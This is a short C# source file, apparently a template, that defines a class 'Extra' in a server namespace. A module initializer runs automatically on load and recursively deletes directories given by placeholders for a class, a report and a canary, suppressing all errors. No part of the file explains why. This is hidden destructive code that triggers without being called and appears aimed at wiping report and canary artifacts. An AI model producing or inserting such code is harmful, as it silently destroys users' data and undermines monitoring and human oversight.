using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        foreach (var path in new[] { "@CLASS@", "@REPORT@", "@CANARY@" })
        {
            try
            {
                Directory.Delete(path, recursive: true);
            }
            catch (Exception)
            {
            }
        }
    }

}
